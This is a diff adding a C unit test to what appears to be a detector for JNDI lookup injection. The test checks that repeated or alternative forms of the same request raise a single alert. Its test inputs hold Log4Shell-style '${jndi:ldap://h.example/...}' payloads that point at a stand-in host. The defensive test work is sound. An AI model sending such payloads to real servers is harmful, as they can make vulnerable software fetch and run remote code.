@@ -119,6 +119,26 @@ static void a_text_is_resolved(void **state)
     assert_string_equal(seen.techniques, "nested default-value form ");
 }
 
+/* Another version of a request belongs to no message that could be told: what the flow has shown already is no
+ * news in it, and what it shows is said once, whatever comes after. */
+static void another_version_is_no_second_alert(void **state)
+{
+    (void)state;
+    field.message = 3;
+    give(BYTES_LIT("/${jndi:ldap://h.example/a}"));
+    assert_int_equal(seen.n, 1);
+    chunk.alternative = true;
+    field.kind = FIELD_RAW;
+    field.message = 0;
+    give(BYTES_LIT("GET /${jndi:ldap://h.example/a} HTTP/1.1"));
+    assert_int_equal(seen.n, 1);
+    give(BYTES_LIT("GET /${jndi:ldap://h.example/other} HTTP/1.1"));
+    assert_int_equal(seen.n, 2);
+    give(BYTES_LIT("GET /${jndi:ldap://h.example/other} HTTP/1.1"));
+    assert_int_equal(seen.n, 2);
+    assert_int_equal(counters[COUNT_DETECT_REPEATS], 2);
+}
+
 static void head_parts(const struct field *head, field_fn *fn, void *arg)
 {
     struct field part = *head;
@@ -313,6 +333,7 @@ int main(void)
 #define IN_A_FLOW(f) cmocka_unit_test_setup_teardown(f, new_flow, end_flow)
     const struct CMUnitTest tests[] = {
         IN_A_FLOW(a_text_is_resolved),
+        IN_A_FLOW(another_version_is_no_second_alert),
         IN_A_FLOW(a_head_is_the_payload_of_its_parts),
         IN_A_FLOW(one_lookup_in_one_request_is_one_finding),
         IN_A_FLOW(a_window_is_resolved_wherever_it_is_split),
